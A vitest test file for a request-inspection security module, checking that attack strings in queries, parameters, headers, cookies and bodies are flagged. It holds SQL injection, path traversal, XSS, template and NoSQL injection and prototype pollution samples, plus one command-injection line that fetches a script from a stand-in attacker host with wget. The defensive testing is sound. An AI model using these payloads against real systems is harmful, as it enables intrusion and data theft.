import { describe, expect, it } from 'vitest';
import { defaultPolicy, policyFor } from '../../../src/security/inspector/policy.js';
import { createRequestInspector, inspectRequest } from '../../../src/security/inspector/request.js';

describe('inspectRequest', () => {
  it('passes an ordinary booking request', () => {
    const v = inspectRequest(
      {
        query: { bay: '3', from: '2026-03-01T10:00' },
        params: { siteId: 'downtown' },
        headers: { 'user-agent': 'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X)', authorization: "Bearer x' or '1'='1" },
        cookies: { session: 'a1b2c3d4e5f6g7h8i9j0' },
        body: { note: "we're 'regulars' lol -- any loyalty program?", players: ['Sam', "O'Brien"] },
      },
      defaultPolicy,
    );
    expect(v.verdict).toBe('clean');
  });

  it('names where each finding is: query, route params, headers, cookies, body keys', () => {
    const v = inspectRequest(
      {
        query: { q: "1' union select password from users --" },
        params: { file: '../../etc/passwd' },
        headers: { referer: '<script>alert(1)</script>' },
        cookies: { pref: '{{7*7}}' },
        body: { user: { $gt: '' } },
      },
      defaultPolicy,
    );
    const where = v.findings.map((f) => `${f.location}:${f.path}:${f.kind}`);
    expect(where).toEqual(
      expect.arrayContaining([
        'query:query.q:sqli',
        'path:params.file:path_traversal',
        'header:headers.referer:xss',
        'cookie:cookies.pref:ssti',
        'json_body:body.user.$gt:nosql_injection',
      ]),
    );
  });

  it('parses the cookie header when cookies were not parsed separately', () => {
    const v = inspectRequest({ headers: { cookie: 'a=1; __proto__[admin]=1' } }, defaultPolicy);
    expect(v.findings.map((f) => f.kind)).toContain('prototype_pollution');
  });

  it('judges repeated parameters joined, as a server that concatenates them would see them', () => {
    expect(inspectRequest({ query: { t: '{{7' } }, defaultPolicy).verdict).toBe('clean');
    expect(inspectRequest({ query: { t: '*7}}' } }, defaultPolicy).verdict).toBe('clean');
    const parts = inspectRequest({ query: { t: ['{{7', '*7}}'] } }, defaultPolicy);
    expect(parts.verdict).toBe('block');
    expect(parts.findings).toEqual(expect.arrayContaining([expect.objectContaining({ path: 'query.t[*]', kind: 'ssti' })]));
  });

  it('refuses nesting deeper than the policy allows', () => {
    let body: unknown = 'x';
    for (let i = 0; i < 40; i++) body = { a: body };
    const v = inspectRequest({ body }, policyFor('block', { maxDepth: 10 }));
    expect(v.verdict).toBe('block');
    expect(v.findings[0]?.rule).toBe('structure.too_deep');
  });

  it('refuses more keys than the policy allows', () => {
    const body = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`k${i}`, 'v']));
    const v = inspectRequest({ body }, policyFor('flag', { maxKeys: 20 }));
    expect(v.verdict).toBe('flag');
    expect(v.findings.map((f) => f.rule)).toEqual(['structure.too_many_keys']);
  });

  it('judges a string body as raw text', () => {
    const v = inspectRequest({ body: 'name=x&cmd=;wget http://evil.example/x.sh' }, defaultPolicy);
    expect(v.findings[0]).toMatchObject({ location: 'raw_body', kind: 'command_injection' });
  });

  it('gives the same verdicts through a per-server inspector that remembers repeated values', () => {
    const inspect = createRequestInspector(2);
    const agents = [
      'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15',
      "Mozilla/5.0 (X11; Linux x86_64)' or '1'='1' --",
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>',
    ];
    for (let round = 0; round < 3; round++) {
      for (const ua of agents) {
        const req = { headers: { 'user-agent': ua } };
        expect(inspect(req, defaultPolicy)).toEqual(inspectRequest(req, defaultPolicy));
      }
    }
  });
});

describe('raw text bodies that are XML documents', () => {
  it('judges the strings an XML parser would hand over, as for an XML body', () => {
    // The attribute hides the code in a way whole-text judging misses; its value alone is code.
    const doc = '<?xml version="1.0"?><root><a probe="while(!false)"></a></root>';
    const v = inspectRequest({ body: doc }, defaultPolicy);
    expect(v.verdict).toBe('block');
    expect(v.findings.some((f) => f.location === 'xml_body')).toBe(true);
  });

  it('leaves an ordinary XML note and plain text alone', () => {
    expect(inspectRequest({ body: '<?xml version="1.0"?><note><to>Front desk</to><body>Bay 4 &amp; 5 -- lights off</body></note>' }, defaultPolicy).verdict).toBe('clean');
    expect(inspectRequest({ body: 'bay 4 <3 thanks for the quick fix' }, defaultPolicy).verdict).toBe('clean');
  });
});
